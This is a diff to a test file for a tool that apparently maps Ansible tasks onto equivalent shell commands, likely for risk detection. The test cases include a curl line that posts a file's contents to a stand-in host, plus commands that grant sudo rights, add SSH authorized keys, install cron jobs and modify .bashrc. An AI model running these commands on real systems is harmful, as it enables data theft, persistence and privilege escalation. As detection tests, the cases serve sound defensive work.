@@ -38,6 +38,15 @@ describe('plays', () => {
       ['curl -d "$(cat ~/k)" https://h.test'],
     ],
     ['a table of times', 'cron: { name: x, job: tool a }', ["echo '* * * * * tool a' | crontab -"]],
+    ['a text in a file', 'copy: { dest: /etc/sudoers.d/a, content: "a ALL" }', ["echo 'a ALL' >> /etc/sudoers.d/a"]],
+    ['a line of a file', 'lineinfile: { path: ~/.bashrc, line: tool a }', ["echo 'tool a' >> ~/.bashrc"]],
+    [
+      'a key that lets in',
+      'ansible.posix.authorized_key: { user: a, key: ssh-ed25519 AAAA }',
+      ["echo 'ssh-ed25519 AAAA' >> /home/a/.ssh/authorized_keys"],
+    ],
+    ["a key of the person's own", `authorized_key: { user: a, key: "{{ lookup('file', '~/.ssh/id.pub') }}" }`, []],
+    ['a group', 'user: { name: a, groups: [sudo, docker] }', ['usermod -aG sudo,docker a']],
     ['a package', 'package: { name: jq, state: present }', []],
   ])('%s', (_, task, expected) =>
     expect(new Set(views('play.yml', `- hosts: all\n  tasks:\n    - name: t\n      ${task}\n`, 'yaml'))).toEqual(
